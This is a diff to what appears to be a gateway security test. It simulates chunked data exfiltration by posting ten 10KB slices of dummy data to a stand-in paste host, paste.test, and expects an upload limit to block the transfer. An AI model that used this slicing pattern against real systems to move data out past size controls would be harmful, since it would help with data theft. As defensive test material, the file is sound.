@@ -13,7 +13,7 @@ ATTACK = {
     "layer": "gateway",
     "risk": "exfiltration",
     "references": ["ATT&CK T1030", "CWE-770"],
-    "arrives": [{"what": "request", "name": "paste.test", "path": "/slice-9*"}],
+    "arrives": [{"what": "request", "name": "paste.test", "path": "/upload?slice-9"}],
     "stopped": [{"reason": ["upload-limit"], "where": {"name": "paste.test"}}],
     "rules": "  - {allow: paste.test, ports: [80]}\n",
     "policy": "limits: {upload: 64KiB}\n",
@@ -24,4 +24,4 @@ ATTACK = {
 
 def attempt(kit):
     for number in range(10):
-        kit.talk("paste.test", 80, kit.get(f"/slice-{number}", "paste.test", "POST", body="x" * 10000))
+        kit.talk("paste.test", 80, kit.get(f"/upload?slice-{number}", "paste.test", "POST", body="x" * 10000))
